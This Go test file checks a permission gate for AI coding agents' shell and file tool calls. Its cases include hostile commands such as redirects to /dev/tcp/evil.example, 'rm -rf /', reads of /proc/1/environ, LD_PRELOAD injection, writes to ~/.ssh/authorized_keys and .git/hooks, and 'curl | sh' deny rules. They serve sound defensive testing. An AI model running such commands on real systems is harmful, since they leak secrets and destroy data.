package permissions_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"cardea.dev"
	"cardea.dev/internal/command/knowledge"
	"cardea.dev/internal/decide/noeffect"
	"cardea.dev/internal/decide/opaque"
	"cardea.dev/internal/decide/permissions"
	"cardea.dev/internal/harness"
	"cardea.dev/internal/harness/call"
	"cardea.dev/internal/harness/permissionlist"
	"cardea.dev/internal/testing/sharedtest"
)

// stand is lists, and the place to which they apply.
type stand struct {
	allow, ask, deny []string
	about            permissions.Options
	scope            cardea.Scope
	change           func(*permissionlist.Origin)
	event            func(*cardea.Event)
	cwd              string
	system           knowledge.System
}

const project = "/proj"

func (s stand) entries() []permissionlist.Entry {
	from := &permissionlist.Origin{Harness: "claude-code", File: "settings.json", Scope: s.scope, Source: project, Allows: true}
	if s.change != nil {
		s.change(from)
	}
	var out []permissionlist.Entry
	for _, l := range []struct {
		list   []string
		effect cardea.Effect
	}{{s.deny, cardea.Deny}, {s.ask, cardea.Ask}, {s.allow, cardea.Allow}} {
		for _, text := range l.list {
			out = append(out, permissionlist.Entry{From: from, Effect: l.effect, Rule: permissionlist.Parse(text, permissionlist.Context{Effect: l.effect, CommandLine: from.CommandLine})})
		}
	}
	return out
}

func (s stand) decider() *permissions.Decider {
	about := s.about
	if about.Home == "" {
		about.Home = "/Users/alice"
	}
	if about.Start == "" {
		about.Start = project
	}
	about.Expand = true
	about.FreeToRead = func(_ *cardea.Event, a *cardea.Access) bool { return strings.HasPrefix(a.Path, project+"/") }
	return permissions.New(s.entries(), about)
}

// call returns an analysed call of a tool in the project.
func (s stand) call(name string, input map[string]any) *cardea.Event {
	_, known := harness.Tool(name)
	info, _ := harness.Tool(name)
	cwd := s.cwd
	if cwd == "" {
		cwd = project
	}
	ev := &cardea.Event{Kind: cardea.PreToolUse, Harness: "claude-code", Cwd: cwd, Project: project, Mode: cardea.ModeDefault,
		Call: &cardea.Call{Tool: name, Name: name, Known: known, EditsFiles: info.EditsFiles, Input: input}}
	if s.event != nil {
		s.event(ev)
	}
	w := s.system
	w.Home = "/Users/alice"
	if w.IsNew == nil {
		w.IsNew = func(string) bool { return true }
	}
	return call.Analyse(ev, w)
}

func (s stand) bash(command string) *cardea.Event {
	return s.call("Bash", map[string]any{"command": command})
}

// verdict returns the verdict of the gate with only the required other deciders: opaque
// parts defer, parts without effect are allowed.
func (s stand) verdict(t testing.TB, ev *cardea.Event) cardea.Verdict {
	t.Helper()
	seats := func(ds ...cardea.Decider) (out []cardea.Placement) {
		for _, d := range ds {
			out = append(out, cardea.Placement{Decider: d})
		}
		return out
	}
	g := cardea.Gate{Placements: seats(opaque.New(cardea.OnErrorDefer).Except(s.decider().NamesVariables), noeffect.New(), s.decider())}
	v := g.Decide(context.Background(), ev)
	if len(v.Issues) > 0 {
		t.Errorf("troubles: %v", v.Issues)
	}
	return v
}

// vector is a case of claude-permission-rules.json.
type vector struct {
	Rule, List, Why string
	Input           map[string]any
	Match           bool
}

// TestVectors tests the whole rule language, case by case, in the list and place that the
// vectors assume.
func TestVectors(t *testing.T) {
	var file struct{ Cases []vector }
	sharedtest.ReadJSON(t, &file, "payloads", "_vectors", "claude-permission-rules.json")
	if len(file.Cases) < 90 {
		t.Fatalf("only %d vectors", len(file.Cases))
	}
	for _, v := range file.Cases {
		if v.List == "deny" && strings.HasPrefix(v.Rule, "Write(") {
			v.Match = true // Claude Code ignores it; here it denies the same as Edit
		}
		if command, _ := v.Input["command"].(string); v.List == "deny" && strings.HasPrefix(command, "python3 -c") {
			v.Match = true // Claude Code does not read the script; here the entry applies to its certain reads
		}
		if got := v.matches(t); got != v.Match {
			t.Errorf("%s %s | %v: %v, want %v (%s)", v.List, v.Rule, v.Input, got, v.Match, v.Why)
		}
	}
}

// matches reports whether the entry decides the call: an allow allows the whole call, any
// other entry denies or asks.
func (v vector) matches(t *testing.T) bool {
	var s stand
	want := cardea.Allow
	switch v.List {
	case "allow":
		s.allow = []string{v.Rule}
	case "ask":
		s.ask, want = []string{v.Rule}, cardea.Ask
	case "deny":
		s.deny, want = []string{v.Rule}, cardea.Deny
	}
	input := map[string]any{}
	for k, val := range v.Input {
		if k != "tool" {
			input[k] = val
		}
	}
	ev := s.call(v.Input["tool"].(string), input)
	if v.Rule == "Bash(* --version)" && strings.HasPrefix(fmt.Sprint(input["command"]), "bash -c") {
		// The entry matches, but does not apply to the programs that bash starts: it names
		// no program, so it would allow any.
		if got := s.verdict(t, ev); got.Effect == cardea.Allow {
			t.Errorf("%s allows what bash -c starts", v.Rule)
		}
		rule := s.entries()[0]
		return rule.CommandIs(ev.Call.Parts[0].Outer[0].Text)
	}
	got := s.verdict(t, ev)
	return got.Effect == want && slices.ContainsFunc(got.Opinions, func(o cardea.Opinion) bool { return o.Decider == "permissions" })
}

// TestPermitterExamples runs every example, requirement and scenario of the specification
// of Permitter, which this decider replaces, with their lists. If the answer differs, the
// file has the reason.
func TestPermitterExamples(t *testing.T) {
	text := readFile(t, "testdata/permitter.txt")
	lines := 0
	for i, line := range strings.Split(text, "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		lines++
		cols := strings.Split(line, " | ")
		if len(cols) < 4 {
			t.Fatalf("permitter.txt:%d: %q has too few columns", i+1, line)
		}
		s := stand{allow: split(cols[2]), deny: []string{}}
		if allow, deny, ok := strings.Cut(cols[2], " - "); ok {
			s.allow, s.deny = split(allow), split(deny)
		}
		command := strings.NewReplacer(`⏎`, "\n", `¦`, "|").Replace(cols[3])
		if got := s.verdict(t, s.bash(command)).Effect.String(); got != cols[1] {
			t.Errorf("permitter.txt:%d: %s: %q is %s, want %s", i+1, cols[0], command, got, cols[1])
		}
	}
	if lines < 80 {
		t.Errorf("only %d lines", lines)
	}
}

// split splits a list of entries: "npm test:*, ls:*" are entries of Bash.
func split(s string) []string {
	var out []string
	for _, e := range strings.Split(s, ", ") {
		e = strings.TrimSpace(e)
		switch {
		case e == "" || e == "none":
		case strings.Contains(e, "(") || e == "Bash":
			out = append(out, e)
		default:
			out = append(out, "Bash("+e+")")
		}
	}
	return out
}

func readFile(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.FromSlash(name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestAllow tests the lines that lists allow, and the reasons that stop an allow.
func TestAllow(t *testing.T) {
	npm := stand{allow: []string{"Bash(npm test:*)", "Bash(git *)", "Bash(tee:*)", "Bash(rm:*)", "Bash(cp:*)", "Bash(grep:*)", "Bash(find:*)"}}
	with := func(entries ...string) stand { return stand{allow: entries} }
	for _, tt := range []struct {
		s       stand
		command string
		want    cardea.Effect
		why     string // a part of the reason that stopped it
	}{
		{npm, "npm test", cardea.Allow, ""},
		{npm, "npm test " + strings.Repeat("a", 10_000), cardea.Abstain, "more than 10000 characters"},
		{npm, "npm testing", cardea.Abstain, "no entry names it"},
		{npm, "npm   test", cardea.Allow, ""},
		{npm, `npm "test" --x`, cardea.Allow, ""},
		{npm, `"npm test"`, cardea.Abstain, "no entry names it"},
		{npm, "/usr/bin/npm test", cardea.Abstain, "no entry names it"},
		{npm, "./npm test", cardea.Abstain, "no entry names it"},
		{npm, "Npm test", cardea.Abstain, "no entry names it"},
		{npm, "npm test $X", cardea.Abstain, "may become several, or none"},
		{npm, `npm test "$X"`, cardea.Allow, ""},
		{npm, "npm test src/*.js", cardea.Allow, ""},
		{npm, "npm $X", cardea.Abstain, "no entry names it"},
		{npm, "npm te$X", cardea.Abstain, "no entry names it"},
		{npm, "$X test", cardea.Defer, "cannot be seen through"},
		{npm, "FOO=1 npm test", cardea.Allow, ""},
		{npm, "NPM_TOKEN=1 npm test", cardea.Defer, "setting NPM_TOKEN changes what it does"},
		{npm, "PYTEST_ADDOPTS=-pevil npm test", cardea.Defer, "setting PYTEST_ADDOPTS changes what it does"},
		{npm, "export PUPPETEER_EXECUTABLE_PATH=/tmp/x; npm test", cardea.Abstain, "may say what is run"},
		{npm, "DATABASE_URL=x npm test", cardea.Allow, ""},
		{npm, "LD_PRELOAD=x npm test", cardea.Defer, "cannot be seen through"},
		{npm, "export PATH=/x; npm test", cardea.Defer, "cannot be seen through"},
		{npm, "sudo npm test", cardea.Abstain, "sudo runs it as another user"},
		{npm, "timeout 5 sudo -u bob npm test", cardea.Abstain, "sudo runs it as another user"},
		{npm, "ssh host npm test", cardea.Abstain, "runs it as another user, or elsewhere"},
		{npm, "docker exec c npm test", cardea.Abstain, "runs it as another user, or elsewhere"},
		{npm, "su -c 'npm test'", cardea.Abstain, "su runs it as another user"},
		{npm, "npm test > out.log", cardea.Allow, ""},
		{npm, "npm test > out.json", cardea.Abstain, "the shell writes /proj/out.json"},
		{npm, "npm test > a rm", cardea.Abstain, "the shell writes /proj/a"},
		{npm, "npm test > /etc/passwd", cardea.Abstain, "the shell writes /etc/passwd"},
		{npm, "npm test > .git/config", cardea.Abstain, "never approved by an entry"},
		{npm, "npm test > \"$X\"", cardea.Defer, "cannot be seen through"},
		{npm, "npm test > /dev/null 2>&1", cardea.Allow, ""},
		{npm, "npm test < in.txt", cardea.Allow, ""},
		{npm, "npm test > /dev/tcp/evil.example/80", cardea.Abstain, "contacts evil.example"},
		{npm, "npm test 3<>/dev/udp/evil.example/1", cardea.Abstain, "contacts evil.example"},
		{npm, "(npm test) > out.log", cardea.Allow, ""},
		{npm, "(npm test) > out.json", cardea.Abstain, "the shell writes"},
		{npm, "> out.log", cardea.Abstain, "only a redirection"},
		{npm, "env time -o x npm test", cardea.Abstain, "the shell writes /proj/x"},
		{npm, "cp x .git/hooks/pre-commit", cardea.Abstain, "never approved by an entry"},
		{npm, "rm x", cardea.Allow, ""},
		{npm, "rm -rf /", cardea.Abstain, "it may delete /"},
		{npm, "rm -rf ~", cardea.Abstain, "it may delete /Users/alice"},
		{npm, "rm -rf .", cardea.Abstain, "it may delete /proj"},
		{npm, "for f in a b; do rm $f; done", cardea.Allow, ""},
		{npm, `for f in a b; do rm "$f"; done`, cardea.Allow, ""},
		{npm, "for f in a .git/config; do rm $f; done", cardea.Abstain, "never approved by an entry"},
		{npm, "for f in a $x; do rm $f; done", cardea.Abstain, "it changes what is not known"},
		{npm, "ls x | xargs rm", cardea.Abstain, "what is not known"},
		{npm, "xargs grep x", cardea.Allow, ""},
		{npm, "xargs -n1 grep x", cardea.Abstain, "xargs is given options"},
		{npm, "find . -name x", cardea.Allow, ""},
		{npm, "find . -delete", cardea.Abstain, "with a command or a deletion of its own"},
		{npm, "find . -exec npm test ';'", cardea.Abstain, "with a command or a deletion of its own"},
		{npm, "git -c core.pager=x log", cardea.Allow, ""}, // as the entry allows; the packs ask
		{npm, "eval 'npm test'", cardea.Allow, ""},
		{npm, "exec npm test", cardea.Allow, ""},
		{npm, "f() { npm test; }; f", cardea.Allow, ""},
		{npm, "npm() { evil; }; npm test", cardea.Abstain, "no entry names it"},
		{npm, "alias npm=evil; npm test", cardea.Defer, "cannot be seen through"},
		{npm, "X=npm; $X test", cardea.Allow, ""},
		{npm, "npm test && evil", cardea.Abstain, "no entry names it"},
		{npm, "npm test\nevil", cardea.Abstain, "no entry names it"},
		{npm, "npm test & evil", cardea.Abstain, "no entry names it"},
		{npm, `npm test "$(evil)"`, cardea.Abstain, "no entry names it"},
		{npm, "bash -c 'npm test; evil'", cardea.Abstain, "no entry names it"},
		{npm, "bash script.sh", cardea.Abstain, "no entry names it"},
		{npm, "npm test && export A=1", cardea.Allow, ""},
		{npm, "export A=1", cardea.Allow, ""},
		{with("Bash(timeout 30 npm test)"), "timeout 30 npm test", cardea.Allow, ""},
		{with("Bash(timeout 30 npm test)"), "timeout 60 npm test", cardea.Abstain, "no entry names it"},
		{with("Bash(timeout:*)"), "timeout 60 evil", cardea.Allow, ""},
		{with("Bash(timeout:*)"), "timeout 60 sudo evil", cardea.Abstain, "sudo must be named by the entry itself"},
		{with("Bash(timeout 60 sudo evil)"), "timeout 60 sudo evil", cardea.Allow, ""},
		{with("Bash(sudo npm test:*)"), "timeout 60 sudo npm test -x", cardea.Allow, ""},
		{with("Bash(sudo:*)"), "sudo docker exec c evil", cardea.Allow, ""},
		{with("Bash(docker exec:*)"), "docker exec c evil", cardea.Allow, ""},
		{with("Bash(bash -c:*)"), "bash -c 'evil; evil2'", cardea.Allow, ""},
		{with("Bash(bash -c:*)"), "bash -c 'evil > /etc/passwd'", cardea.Abstain, "the shell writes /etc/passwd"},
		{with("Bash(bash -c:*)"), `bash -c "$X"`, cardea.Defer, "cannot be seen through"},
		{with("Bash(xargs -n1 grep:*)"), "xargs -n1 grep x", cardea.Allow, ""},
		{with("Bash(b*)"), "bash -c evil", cardea.Abstain, "bash must be named by the entry itself"},
		{with("Bash(* evil)"), "timeout 5 evil", cardea.Abstain, "timeout must be named"},
		{with("Bash(xargs * x)"), "xargs -n1 grep x", cardea.Allow, ""},
		{with("Bash(grep * y)"), "xargs grep x", cardea.Abstain, "no entry names it"},
		{with("Bash(watch:*)"), "watch evil", cardea.Abstain, "wildcard does not approve watch"},
		{with("Bash(watch evil)"), "watch evil", cardea.Allow, ""},
		{with("Bash(find . -delete)"), "find . -delete", cardea.Abstain, "it may delete /proj"},
		{with("Bash(find build -delete)"), "find build -delete", cardea.Allow, ""},
		{with("Bash(time npm test)"), "time npm test", cardea.Allow, ""},
		{with("Bash(FOO=1 npm test)"), "FOO=1 npm test", cardea.Allow, ""},
		{with("Bash(FOO=1 npm test)"), "FOO=2 npm test", cardea.Abstain, "no entry names it"},
		{with("Bash(X_NPM=1 npm test)"), "X_NPM=1 npm test", cardea.Allow, ""},
		{with("Bash(mytool:*)"), "MYTOOL_X=1 mytool", cardea.Abstain, "going by its name"},
		{with("Bash(LD_PRELOAD=x npm test)"), "LD_PRELOAD=x npm test", cardea.Allow, ""},
		{with("Bash(npm test && npm run build)"), "npm test && npm run build", cardea.Abstain, "no entry names it"},
		{with("Bash(npm test && npm run build)"), "npm test && npm run build && evil", cardea.Abstain, ""},
		{with("Bash(npm test > /etc/passwd)"), "npm test > /etc/passwd", cardea.Abstain, "the shell writes"},
		{with(`Bash(git commit -m "a b")`), `git commit -m 'a b'`, cardea.Allow, ""},
		{with(`Bash(git commit -m "a b")`), `git commit -m "a b" -n`, cardea.Abstain, ""},
		{with(`Bash(echo "a:*)`), `echo "a`, cardea.Defer, ""},
		{with("Bash(npm run test *)"), "npm run test", cardea.Allow, ""},
		{with("Bash(npm run test *)"), "npm run tests", cardea.Abstain, ""},
		{with("Bash(npm run:test)"), "npm run:test", cardea.Allow, ""},
		{with("Bash(ls:*)"), "lsof", cardea.Abstain, ""},
		{with("Bash(ls:*:*)"), "ls x", cardea.Abstain, ""},
		{with("Bash(ls\n:*)"), "ls x", cardea.Abstain, ""},
		{with("Bash(ls \x00)"), `ls "$X"`, cardea.Abstain, ""},
		{with("Bash(ls *"), "ls x", cardea.Abstain, ""},
		{with("bash(ls *)"), "ls x", cardea.Abstain, ""},
		{with("Bash()"), "ls x", cardea.Abstain, ""},
		{with("*"), "ls x", cardea.Abstain, ""},
		{with("Bash"), "sudo evil", cardea.Abstain, "sudo must be named"},
		{with("Bash"), "evil $X", cardea.Abstain, "may become several"},
		{with("Bash"), `evil "$X" > x.sh`, cardea.Abstain, "the shell writes"},
		{with("Bash(npm test:*)", "Edit(/build/**)"), "npm test > build/x.json", cardea.Allow, ""},
		{with("Bash(npm test:*)", "Edit"), "npm test > x.json", cardea.Allow, ""},
		{with("Bash(npm test:*)", "Edit"), "npm test > .git/hooks/x", cardea.Abstain, "never approved"},
		{with("Bash(npm test:*)", "Edit(/build/**)"), "npm test > build2/x.json", cardea.Abstain, "needs a yes of its own"},
		{with("Bash(npm test:*)"), "npm test <> in.txt", cardea.Allow, ""},
		{with("Bash(npm test:*)"), "npm test < ~/in.txt", cardea.Abstain, "the shell reads /Users/alice/in.txt, which needs a yes of its own"},
		{with("Bash(npm test:*)"), "npm test 3<> ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "f=~/in.txt; npm test < $f", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "{ npm test; } < ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "for x in a; do npm test; done < /proc/1/environ", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "timeout 5 npm test < /dev/sda", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "npm test <<< \"$(< ~/in.txt)\"", cardea.Abstain, "the shell reads"},
		{with("Bash(npm test:*)"), "npm test <<< \"$(< in.txt)\"", cardea.Allow, ""},
		{with("Bash(npm test:*)", "Read(~/in.txt)"), "npm test < ~/in.txt", cardea.Allow, ""},
		{with("Bash(npm test:*)", "Read(~/other.txt)"), "npm test < ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash"), "exec 3< ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash"), "read x < ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash"), "true < ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash"), "x=$(< ~/in.txt)", cardea.Abstain, "the shell reads"},
		{with("Bash"), "while read x; do echo a; done < ~/in.txt", cardea.Abstain, "the shell reads"},
		{with("Bash"), "while read x; do echo a; done < in.txt", cardea.Allow, ""},
		// Permitted variables.
		{with("Bash(NPM_X=1 npm test)"), "NPM_X=1 npm test", cardea.Allow, ""},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=src pytest", cardea.Allow, ""},
		{with("Bash(PYTHONPATH=src pytest)"), "env PYTHONPATH=src timeout 5 pytest", cardea.Allow, ""},
		{with("Bash(PYTHONPATH=src pytest:*)"), "PYTHONPATH=src pytest tests", cardea.Allow, ""},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=lib pytest", cardea.Defer, "it sets PYTHONPATH"},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=src pytest tests", cardea.Defer, "it sets PYTHONPATH"},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=src PERL5LIB=x pytest", cardea.Defer, "it sets"},
		{with("Bash(PYTHONPATH=src pytest)"), "PERL5LIB=x; PYTHONPATH=src pytest", cardea.Defer, "PERL5LIB"},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=$X pytest", cardea.Defer, "it sets"},
		{with("Bash(PYTHONPATH=src pytest)"), "PYTHONPATH=src sudo pytest", cardea.Defer, "it sets"},
		{with("Bash(PYTHONPATH=* pytest)"), "PYTHONPATH=src pytest", cardea.Defer, "it sets"},
		{with("Bash(* pytest)"), "PYTHONPATH=src pytest", cardea.Defer, "it sets"},
		{with("Bash(PATH=x pytest)"), "PATH=x pytest", cardea.Defer, "it sets PATH"},
		{with("Bash(pytest)"), "X_DIR=./evil pytest", cardea.Abstain, "going by its value"},
		{with("Bash(* pytest)"), "X_DIR=./evil pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR=--require pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR=python3.12 pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR='a -p evil' pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR=file:///evil pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR=a:~/evil pytest", cardea.Abstain, "X_DIR"},
		{with("Bash(pytest)"), "export X_DIR=./evil; pytest", cardea.Abstain, "going by its value"},
		{with("Bash(pytest)"), "X_DIR=$(cat x) pytest", cardea.Abstain, "only when it runs"},
		{with("Bash(X_DIR=./evil pytest)"), "X_DIR=./evil pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "X_MODE=fast pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "X_MODE=-1 pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "X_MODE=a,b pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "X_SINCE=2020/01/31 pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "X_DB=postgres://localhost/test pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "PY_COLORS=0 pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "env -u NODE_OPTIONS pytest", cardea.Allow, ""},
		{with("Bash(pytest)"), "env -u GIT_CONFIG_NOSYSTEM pytest", cardea.Defer, "GIT_CONFIG_NOSYSTEM"},
		{with("Bash(git log:*)"), "GIT_PAGER=cat git log", cardea.Allow, ""},
		{with("Bash(git log:*)"), "GIT_PAGER= git log", cardea.Allow, ""},
		{with("Bash(git log:*)"), "export GIT_PAGER=cat; git log", cardea.Allow, ""},
		{with("Bash(git log:*)"), "GIT_PAGER=./cat git log", cardea.Defer, "it sets GIT_PAGER"},
		{with("Bash(git log:*)"), "GIT_PAGER=cat GIT_PAGER=x git log", cardea.Defer, "it sets GIT_PAGER"},
		{with("Bash(git log:*)"), "export GIT_PAGER=cat; GIT_PAGER+=x; git log", cardea.Defer, "GIT_PAGER"},
		{with("Bash(git commit:*)"), "GIT_AUTHOR_DATE=2020-01-01 git commit -m x", cardea.Allow, ""},
		{with("Bash(git rebase:*)"), "GIT_EDITOR=true git rebase --continue", cardea.Allow, ""},
		{with("Bash(git rebase:*)"), "GIT_EDITOR=vi git rebase --continue", cardea.Defer, "it sets GIT_EDITOR"},
		{with("Bash(docker compose ps)"), "COMPOSE_PROJECT_NAME=x docker compose ps", cardea.Allow, ""},
		{with("Bash(docker compose ps)"), "COMPOSE_FILE=x docker compose ps", cardea.Defer, "it sets COMPOSE_FILE"},
		{with("Bash(make)"), "CI=1 V=1 VERBOSE=1 NO_COLOR=1 DEBUG=1 make", cardea.Allow, ""},
		{with("Bash(make)"), "X=1 make", cardea.Defer, "it sets X"},
		{with("Bash(make)"), "V='$(shell id)' make", cardea.Defer, "it sets V"},
		{with("Bash(make)"), "V=$X make", cardea.Defer, "it sets V"},
		{with("Bash(make)"), "export X=1; make", cardea.Defer, "it sets X"},
		{stand{allow: []string{"Bash(grep:*)"}, deny: []string{"Read(.env)"}}, "grep -r KEY .", cardea.Abstain, "it may read what Read(.env) denies"},
		{stand{allow: []string{"Bash(grep:*)"}, deny: []string{"Read(.env)"}}, "grep KEY a.txt", cardea.Allow, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, ask: []string{"Bash(npm:*)"}}, "npm test", cardea.Ask, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, ask: []string{"Bash(npm:*)"}, deny: []string{"Bash(* test)"}}, "npm test", cardea.Deny, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Options{KnownSafe: true}}, "NODE_ENV=test npm test", cardea.Allow, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Options{KnownSafe: true}}, "FOO=1 npm test", cardea.Abstain, "known-safe"},
		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Options{KnownSafe: true}}, "export FOO=1; npm test", cardea.Abstain, "known-safe"},
		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Options{Loose: true}}, "npm test $X", cardea.Allow, ""},
		{stand{allow: []string{"Bash(npm * x)"}, about: permissions.Options{Loose: true}}, "npm $X x", cardea.Abstain, "last wildcard is not its only one"},
		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Options{Loose: true}}, "npm test > $X", cardea.Defer, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Mode = cardea.ModeAcceptEdits }}, "npm test > x.json", cardea.Allow, ""},
		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Mode = cardea.ModeAcceptEdits }}, "npm test > /x/x.json", cardea.Abstain, "needs a yes"},
		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Call.Unsandboxed = true }}, "npm test", cardea.Abstain, "outside of the sandbox"},
		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Harness = "copilot-cli" }}, "npm test", cardea.Abstain, "allows nothing for copilot-cli"},
		{
			stand{allow: []string{"Bash(npm test:*)"}, change: func(o *permissionlist.Origin) { o.Allows, o.Why = false, "the project is not trusted" }},
			"npm test",
			cardea.Abstain,
			"does not count: the project is not trusted",
		},
		{stand{allow: []string{"Bash(npm test:*)"}, system: knowledge.System{IsNew: func(string) bool { return false }}}, "npm test > out.log", cardea.Abstain, "needs a yes"},
	} {
		ev := tt.s.bash(tt.command)
		v := tt.s.verdict(t, ev)
		var why []string
		for i, e := range v.Parts {
			if e != cardea.Allow {
				why = append(why, tt.s.decider().Refusal(ev, i).Why...)
			}
		}
		if v.Effect != tt.want || !strings.Contains(strings.Join(why, "; "), tt.why) {
			t.Errorf("%q with %q: %s (%q), want %s (%q)", tt.command, tt.s.allow, v.Effect, why, tt.want, tt.why)
		}
	}
}

// TestDeny tests that a deny applies to every spelling, and to no other command.
func TestDeny(t *testing.T) {
	for entry, lines := range map[string]struct{ denied, passed []string }{
		"Bash(rm -rf:*)": {
			[]string{"rm -rf x", "rm -rf", "rm -r -f x", "rm -fr x", "rm x -rf", "rm -rfv x", "/bin/rm -rf x", `\rm -rf x`, "sudo rm -rf x", "A=b rm -rf x", "env -i rm -rf x",
				"bash -c 'rm -rf x'", "eval 'rm -rf x'", "npm test & rm -rf x", "a\nrm -rf x", "$(rm -rf x)", "find . -exec rm -rf {} +", "ls | xargs rm -rf",
				"ssh host rm -rf x", "docker exec c rm -rf x", "X=rm; $X -rf x", "f() { rm -rf x; }; f", "LD_PRELOAD=x rm -rf x", "rm -rf $X", "timeout 5 nice rm -rf x"},
			[]string{"rm -r x", "rm -f x", "rm x", "echo 'rm -rf x'", "git commit -m 'rm -rf x'", "rmdir x", "rm -- -rf", "echo rm -rf"}},
		"Bash(git push:*)": {
			[]string{"git push", "git push origin main", "git -C x push -f", "git --no-pager push"},
			[]string{"git pull", "git log --grep push", "git stash push"}},
		"Bash(sudo:*)":                  {[]string{"sudo ls", "timeout 5 sudo ls"}, []string{"ls", "pseudo ls"}},
		"Bash(* --force)":               {[]string{"git push --force", "x --force"}, []string{"git push --force x"}},
		"Bash(curl * | sh)":             {[]string{"curl x | sh"}, []string{"curl x | cat"}},
		"Bash(cd:*)":                    {[]string{"cd x && ls"}, []string{"ls"}},
		"Bash(timeout:*)":               {[]string{"timeout 5 ls"}, []string{"ls"}},
		"Bash":                          {[]string{"ls", "", "# nothing"}, nil},
		"Bash(*)":                       {[]string{"ls"}, nil},
		"B*":                            {[]string{"ls"}, nil},
		"run_shell_command(rm:*)":       {[]string{"rm x"}, []string{"ls"}},
		"Bash(description: d*)":         {[]string{"ls"}, nil},
		"Bash(description:x)":           {nil, []string{"ls"}},
		"Bash(run_in_background: true)": {nil, []string{"ls"}},
		"Read(.env)": {
			[]string{"cat .env", "cat sub/.env", "base64 < .env", "cat .e*", "cp .env x", "cat {.env,x}", "echo x > .env", "source .env", "grep KEY .env"},
			[]string{"cat .env.example", "ls -la .env", "cat /other/.env", "echo .env"},
		},
		"Read(./secrets/**)": {
			[]string{"cat secrets/key", "cat ./secrets/a/b", "cd secrets && cat key", "tar cf x secrets", "cp -r secrets x"},
			[]string{"cat x/secrets/key", "cat secretsx/key"},
		},
		"Edit(/src/**)": {
			[]string{"echo x > src/a", "rm src/a", "rm -rf src", "sed -i s/a/b/ src/a", "rm -rf ../proj", "tee src/a", "mv src/a b"},
			[]string{"cat src/a", "echo x > b", "rm -rf other"},
		},
		"Edit(//etc/**)":  {[]string{"echo x > /etc/hosts", "tee /etc/hosts"}, []string{"echo x > etc/hosts", "cat /etc/hosts"}},
		"Edit(~/.ssh/**)": {[]string{"cp x ~/.ssh/config", "rm -rf ~/.ssh", "rm -rf ~", "echo x >> $HOME/.ssh/authorized_keys"}, []string{"cp x .ssh/config"}},
	} {
		s := stand{deny: []string{entry}, allow: []string{"Bash"}}
		for _, c := range lines.denied {
			ev := s.call("Bash", map[string]any{"command": c, "description": "do it"})
			if v := s.verdict(t, ev); v.Effect != cardea.Deny {
				t.Errorf("%s does not deny %q: %s", entry, c, v.Effect)
			}
		}
		for _, c := range lines.passed {
			ev := s.call("Bash", map[string]any{"command": c, "description": "do it"})
			if v := s.verdict(t, ev); v.Effect == cardea.Deny {
				t.Errorf("%s denies %q: %s", entry, c, v.Reason)
			}
		}
	}
}

// TestOtherTools tests tools other than shells.
func TestOtherTools(t *testing.T) {
	link := knowledge.System{Resolve: func(p string) string {
		if rest, ok := strings.CutPrefix(p, "/proj/link/"); ok {
			return "/proj/secrets/" + rest
		}
		return p
	}}
	file := func(p string) map[string]any { return map[string]any{"file_path": p} }
	for _, tt := range []struct {
		s     stand
		tool  string
		input map[string]any
		want  cardea.Effect
	}{
		{stand{allow: []string{"Edit(src/**)"}}, "Write", file("/proj/src/a.go"), cardea.Allow},
		{stand{allow: []string{"Edit(src/**)"}}, "MultiEdit", file("/proj/src/a.go"), cardea.Allow},
		{stand{allow: []string{"Edit(src/**)"}}, "NotebookEdit", map[string]any{"notebook_path": "/proj/src/a.ipynb"}, cardea.Allow},
		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("/proj/src/../x.go"), cardea.Abstain},
		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("src/a.go"), cardea.Allow},
		{stand{allow: []string{"Edit(src/**)"}, cwd: "/tmp"}, "Edit", file("/tmp/src/a.go"), cardea.Abstain},
		{stand{deny: []string{"Edit(src/**)"}, cwd: "/tmp"}, "Edit", file("/tmp/src/a.go"), cardea.Deny},
		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("/proj/src/.git/config"), cardea.Abstain},
